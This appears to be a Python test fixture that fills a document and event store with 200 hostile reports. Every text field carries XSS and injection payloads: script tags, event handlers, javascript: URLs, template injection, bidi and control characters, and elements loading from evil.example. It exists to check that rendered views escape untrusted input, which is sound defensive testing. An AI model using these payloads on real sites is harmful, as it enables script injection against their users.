"""Two hundred reports that try to run something: every text of theirs, wherever a view may show it, is an attack."""

from collections.abc import Sequence
from dataclasses import dataclass

import duckdb

from standoff.core.document import Document, DocumentView, text_digest
from standoff.core.layers import Sentence
from standoff.core.vocabulary import Basis, Certainty, Directness, EventType, PlaceKind, Polarity, Status, ValueBasis
from standoff.run.corpus import CORPUS_STEPS, run_steps
from standoff.store.catalogue import open_catalogue
from standoff.store.records import (
    ActorRecord,
    EventRecord,
    FigureRecord,
    PlaceRecord,
    Span,
    SpeakerRecord,
    TimeRecord,
    events_table,
)
from standoff.web.shown import MemoryCase

RUN = "window.hacked=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"\"><img src=x onerror={RUN}>",
    f"' onmouseover='{RUN}' x='",
    f"javascript:{RUN}",
    f"<a href=\"javascript:{RUN}\">click</a>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    f"<body onload={RUN}>",
    f"<math><mi xlink:href=\"javascript:{RUN}\">x</mi></math>",
    f"<details open ontoggle={RUN}>x</details>",
    "<style>*{background:url(http://evil.example/x)}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "\u202eevil\u202c reversed \u2066isolated",
    "zero\u200bwidth and bell \x07 and escape \x1b[31m",
    "\x00null <b>bold</b>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<form action=http://evil.example><input autofocus onfocus={RUN}>",
)  # fmt: skip
REPORTS = 200
LONG_WORD = 10_000_000
"""Characters of the word without a space that the last report holds."""
ADDRESSES = (f"javascript:{RUN}", "data:text/html,<script>1</script>", 'http://evil.example/" onclick="x', "vbscript:x")


def payload(n: int) -> str:
    """Give an attack by its number."""
    return PAYLOADS[n % len(PAYLOADS)]


def hostile_view(n: int) -> DocumentView:
    """Make a hostile report with a sentence per line."""
    evil = payload(n)
    text = f"{evil}\n\nThe ministry said: {evil} moved 30 ships. {evil}"
    if n == REPORTS - 1:
        text += "\n\n" + "x" * LONG_WORD
    doc = Document(
        f"hostile{n:04d}", f"{evil}.txt", None, ADDRESSES[n % len(ADDRESSES)], f"Title {n}: {evil}", f"Outlet {evil}",
        evil, f"2031-03-{n % 28 + 1:02d}", ValueBasis.STATED, "en", text, 0, text_digest(text),
    )  # fmt: skip
    return DocumentView(doc, {"sentences": [Sentence(0, min(len(text), 400), "test/1")]})


def hostile_event(view: DocumentView, n: int) -> EventRecord:
    """Make an event of which every free text is an attack."""
    evil, doc = payload(n), view.doc
    at = doc.text.index("moved")
    words = Span(at, at + 5, "moved")
    clause = Span(0, at + 5, doc.text[: at + 5])
    actor = ActorRecord(0, len(evil), evil, evil, None, None)
    other = ActorRecord(0, len(evil), evil, f"Side {n % 9} {evil}", None, None)
    place = PlaceRecord(
        0, len(evil), evil, evil, PlaceKind.CITY, evil[:20], evil, [evil], evil, evil, 60.0 + n % 5, 5.0, 10.0
    )
    figure = FigureRecord(
        at + 6, at + 8, "30", 30.0 + n, None, None, "exact", evil, None, evil, "count", None, evil, evil
    )
    speaker = SpeakerRecord(actor, words, "asserts", Directness.INDIRECT, Basis.OFFICIAL_STATEMENT)
    day = f"2031-03-{n % 28 + 1:02d}"
    return EventRecord(
        event_id=f"{doc.doc_id}:0", doc_id=doc.doc_id, report=doc.name, published=doc.published, outlet=doc.outlet,
        start=at, end=at + 5, text="moved", sentence=clause, clause=clause, type=list(EventType)[n % 16], mode=None,
        quad=n % 4 + 1, intensity=float(n % 10) - 5, sources=[actor], targets=[other], status=list(Status)[n % 11],
        polarity=Polarity.POSITIVE, certainty=Certainty.CERTAIN, factuality=None, status_cue=None,
        condition=Span(0, len(evil), evil),
        speakers=[speaker] if n % 2 else [],
        cue=None, quote=None, basis=None, about=[], content_of=None, same_as=None,
        times=[TimeRecord(0, 3, evil, evil, day, day, "stated")], places=[place], figures=[figure], confidence=0.9,
        maker=f"events/1:{evil}",
    )  # fmt: skip


@dataclass(slots=True)
class HostileCase(MemoryCase):
    """A case whose events are made by hand, as no stage would make them."""

    def catalogue(self, as_of: str | None) -> duckdb.DuckDBPyConnection:
        """Open the tables with the hostile events in place of the coded ones."""
        connection = open_catalogue(self.views)
        connection.register("events", events_table(hostile_events(self.views)))
        run_steps(connection, CORPUS_STEPS)
        return connection


def hostile_events(views: Sequence[DocumentView]) -> list[EventRecord]:
    """Make the events of all reports."""
    return [hostile_event(view, n) for n, view in enumerate(views)]


def hostile_case() -> HostileCase:
    """Make the case."""
    return HostileCase(f"Case {PAYLOADS[0]}", [hostile_view(n) for n in range(REPORTS)])
